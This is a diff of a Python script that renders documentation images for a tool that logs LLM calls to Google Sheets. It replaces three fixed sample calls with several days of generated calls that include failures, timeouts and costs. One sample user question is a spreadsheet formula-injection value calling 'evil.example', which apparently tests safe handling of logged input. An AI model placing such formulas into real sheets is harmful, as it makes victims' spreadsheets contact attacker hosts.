@@ -7,51 +7,85 @@ with what it draws.
 from __future__ import annotations
 
 import tempfile
-from collections import defaultdict
+from collections.abc import Iterator
+from datetime import datetime, timedelta, timezone
 from html import escape
 from pathlib import Path
 
 from draw_tab import draw
 
 from hilt.core.event import Actor, Content, Event, Metrics
+from hilt.io.sheets.call_rows import serial_of
 from hilt.io.sheets.sink import SheetsSink
-from hilt.testing.sheets import SheetsEmulator
+from hilt.testing.sheets import Book, SheetsEmulator
 
 PICTURES = Path(__file__).parent / "pictures"
-COLUMNS = ["timestamp", "speaker", "message", "cost_usd", "latency_ms", "model", "status_code"]
 TALK = [
-    ("What is Python?", "A programming language that reads like English.", 0.000053, 842),
-    ("And who made it?", "Guido van Rossum, in 1991.", 0.000041, 655),
-    ('=IMPORTDATA("http://evil.example")', "I cannot open links.", 0.000039, 590),
+    ("What is Python?", "A programming language that reads like English.", "completed"),
+    ("And who made it?", "Guido van Rossum, in 1991.", "completed"),
+    ('=IMPORTDATA("http://evil.example")', "I cannot open links.", "completed"),
+    ("Where is order 4711?", "It left Leipzig this morning.", "completed"),
+    ("Translate our terms into Dutch", "429 rate_limit_exceeded: try again in 20 s", "failed"),
+    ("Translate our terms into Dutch", "Artikel 1. In deze voorwaarden wordt", "length"),
+    ("May I return opened headphones?", "Yes, within 30 days.", "completed"),
+    ("Summarise yesterday's tickets", "Request timed out.", "timeout"),
+    ("Summarise yesterday's tickets", "Twelve tickets: nine about delivery.", "completed"),
 ]
+PEOPLE = ("ana", "ben", "user")
+MODELS = (("gpt-4o-mini", 0.00000015, 0.0000006), ("gpt-4o", 0.0000025, 0.00001))
+DAYS = 6
+FIRST = datetime(2026, 11, 16, 9, 0, tzinfo=timezone.utc)
+NOW = FIRST + timedelta(days=DAYS - 1, hours=1, minutes=14)
 FONT = "font-family='Arial, Helvetica, sans-serif' font-size='13'"
 
 
-def events() -> list[Event]:
-    """Three calls with ids and times that are the same in every run."""
-    made = []
-    for number, (question, answer, cost, latency) in enumerate(TALK):
-        question_event = Event(
-            event_id=f"evt_{2 * number:032x}",
-            timestamp=f"2026-11-21T09:0{number}:00.000000Z",
-            session_id="conv_a3f7d892a3f7d892",
-            actor=Actor(type="human", id="user"),
-            action="prompt",
-            content=Content(text=question),
-            extensions={"model": "gpt-4o-mini"},
-        )
-        answer_event = Event(
-            event_id=f"evt_{2 * number + 1:032x}",
-            timestamp=f"2026-11-21T09:0{number}:01.000000Z",
-            session_id=question_event.session_id,
-            actor=Actor(type="agent", id="openai"),
-            action="completion",
-            content=Content(text=answer),
-            metrics=Metrics(cost_usd=cost),
-            extensions={"model": "gpt-4o-mini", "latency_ms": latency, "status_code": 200},
-        )
-        made += [question_event, answer_event]
-    return made
+def events() -> Iterator[Event]:
+    """The calls of some days, with ids and times that are the same in every run."""
+    for day in range(DAYS):
+        for number, talk in enumerate(TALK[: 5 + 3 * day % 7 if day < DAYS - 1 else None]):
+            yield from call(
+                FIRST + timedelta(days=day, minutes=7 * number), day * 20 + number, talk
+            )
+
+
+def call(time: datetime, number: int, talk: tuple[str, str, str]) -> Iterator[Event]:
+    """A question and what became of it."""
+    question, answer, outcome = talk
+    model, price_read, price_written = MODELS[number % 5 // 4]
+    read, written = 60 + 37 * number % 400, 20 + 53 * number % 300
+    seconds = 30.0 if outcome == "timeout" else 0.4 + 61 * number % 300 / 100
+    prompt = Event(
+        event_id=f"evt_{2 * number:032x}",
+        timestamp=time.isoformat().replace("+00:00", ".000000Z"),
+        session_id="conv_a3f7d892a3f7d892",
+        actor=Actor(type="human", id=PEOPLE[number % 3]),
+        action="prompt",
+        content=Content(text=question),
+        extensions={"model": model},
+    )
+    has_failed = outcome in {"failed", "timeout"}
+    metrics = Metrics(
+        tokens={"prompt": read, "completion": written},
+        cost_usd=round(read * price_read + written * price_written, 9),
+    )
+    ended = time + timedelta(seconds=seconds)
+    yield prompt
+    yield Event(
+        event_id=f"evt_{2 * number + 1:032x}",
+        timestamp=ended.isoformat(timespec="microseconds").replace("+00:00", "Z"),
+        session_id=prompt.session_id,
+        actor=Actor(type="agent", id="openai"),
+        action="system" if has_failed else "completion",
+        content=Content(text=answer),
+        metrics=None if has_failed else metrics,
+        extensions={
+            "reply_to": prompt.event_id,
+            "model": model,
+            "latency_ms": round(1000 * seconds),
+            "outcome": outcome,
+            **({"error_code": "rate_limit"} if has_failed else {}),
+        },
+    )
 
 
 def pictures() -> dict[str, str]:
@@ -61,8 +95,6 @@ def pictures() -> dict[str, str]:
         sink = SheetsSink(
             sheet_id="book",
             credentials_json=sheets.service_account(),
-            columns=COLUMNS,
-            review=True,
             outbox=outbox,
             api_root=sheets.api_root,
         )
@@ -71,19 +103,37 @@ def pictures() -> dict[str, str]:
             sink.write(event.encode() + b"\n", 1)
         if not sink.flush(20):
             raise RuntimeError("the sheet was not written")
+        for _ in sink.setup():
+            pass
         sink.close()
-        plain = sheets.book().tab("Logs")
-        plain.hidden_columns |= {7, 8, 9}
-        sheets.type_in("book", "Logs!H3", 5, "Clear and short")
-        sheets.type_in("book", "Logs!H5", 2, "Too short", "Guido van Rossum, at CWI in Amsterdam")
-        reviewed = sheets.book().tab("Logs")
-        reviewed.hidden_columns |= {0, 3, 4, 5, 6}
-    return {
-        "sheet.svg": draw(plain),
-        "review.svg": draw(reviewed),
-        "share.svg": share(),
-        "dashboard.svg": dashboard(),
-    }
+        plain = sheets.book()
+        sheets.type_in("book", "Logs!L2", "5", "Clear and short")
+        sheets.type_in("book", "Logs!L3", "2", "Too short", "Guido van Rossum, at CWI in Amsterdam")
+        return {
+            "sheet.svg": draw_newest(plain),
+            "review.svg": draw_reviewed(sheets.book()),
+            "share.svg": share(),
+            "dashboard.svg": draw_dashboard(plain),
+        }
+
+
+def draw_newest(book: Book) -> str:
+    """The calls of the last days, as far as a screen shows them."""
+    tab = book.tab("Logs")
+    return draw(book, tab, rows=19, columns=9, scale=0.9)
+
+
+def draw_reviewed(book: Book) -> str:
+    """The first questions with their reviews; a person has hidden the columns between."""
+    tab = book.tab("Logs")
+    tab.hidden_columns |= {0, 1, 3, 4, 5, 6, 9, 10}
+    return draw(book, tab, rows=6)
+
+
+def draw_dashboard(book: Book) -> str:
+    """The dashboard with its figures, charts and tables."""
+    now = serial_of(NOW.isoformat(), timezone.utc)
+    return draw(book, book.tab("Logs dashboard"), rows=48, columns=12, now=now)
 
 
 def share() -> str:
@@ -101,39 +151,6 @@ def share() -> str:
         box(356, 138, 80, 34, "#1a73e8", "#1a73e8", 17),
         text(396, 160, "Send", fill="#ffffff", anchor="middle"),
     )
-
-
-def dashboard() -> str:
-    """What the dashboard's figures and charts show for the same calls, drawn and not computed."""
-    done = [event for event in events() if event.metrics is not None]
-    cost = sum(event.metrics.cost_usd or 0 for event in done if event.metrics)
-    per_day: dict[str, float] = defaultdict(float)
-    for event in done:
-        per_day[event.timestamp[:10]] += (event.metrics.cost_usd or 0) if event.metrics else 0
-    figures = [
-        ("Calls", len(done)),
-        ("Errors", 0),
-        ("Error rate", "0.0%"),
-        ("Cost (USD)", f"{cost:.6f}"),
-    ]
-    parts = [box(0, 0, 640, 300, "#ffffff", "#dadce0", 0), text(20, 34, "HILT: Logs", size=18)]
-    for at, (name, value) in enumerate(figures):
-        parts += [text(20 + 150 * at, 66, name, bold=True), text(20 + 150 * at, 88, str(value))]
-    parts.append(text(20, 126, "Slowest calls (ms)", bold=True))
-    slowest = sorted(done, key=lambda event: -(event.extensions or {})["latency_ms"])
-    for at, event in enumerate(slowest):
-        latency = (event.extensions or {})["latency_ms"]
-        parts.append(box(20, 140 + 26 * at, latency / 4, 20, "#4285f4", "#4285f4", 0))
-        parts.append(text(28 + latency / 4, 155 + 26 * at, f"{latency}"))
-    parts.append(text(340, 126, "Cost per day (USD)", bold=True))
-    for at, (day, spent) in enumerate(sorted(per_day.items())):
-        height = 90 * spent / max(per_day.values())
-        parts.append(box(350 + 90 * at, 240 - height, 60, height, "#34a853", "#34a853", 0))
-        parts.append(text(380 + 90 * at, 258, day, anchor="middle"))
-    parts.append(
-        text(20, 286, "Drawn from the same calls; Google draws its own charts.", fill="#5f6368")
-    )
-    return svg(640, 300, *parts)
 
 
 def svg(width: int, height: int, *parts: str) -> str:
